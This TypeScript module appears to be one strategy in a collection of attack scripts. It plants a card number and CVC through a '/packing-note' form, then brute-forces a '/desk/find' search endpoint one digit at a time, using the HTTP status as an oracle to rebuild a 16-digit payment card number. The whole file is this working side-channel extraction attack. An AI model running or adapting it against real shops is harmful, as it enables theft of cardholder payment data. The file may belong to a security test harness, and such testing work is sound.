import type { Strategy } from '#scripts/attack/strategy';

const DIGITS = 16;

/** The shop says whether anything kept contains a text: digit after digit, by status alone. */
export const statusOracle: Strategy = {
  name: 'digit after digit, by status',
  channel: 'status',
  shops: ['mirror'],
  async run({ page, shell, conclude }) {
    await page("return (await post('/packing-note', form({ card_number: number, card_cvc: code }))).status");
    let known = '4000';
    let isFound = true;
    while (isFound && known.length < DIGITS) {
      isFound = false;
      for (let digit = 0; digit < 10 && !isFound; digit += 1) {
        const { status } = await shell(`/desk/find?text=${known}${digit}`);
        isFound = status === 200;
        if (isFound) known += digit;
      }
    }
    await conclude('status', known);
  },
};
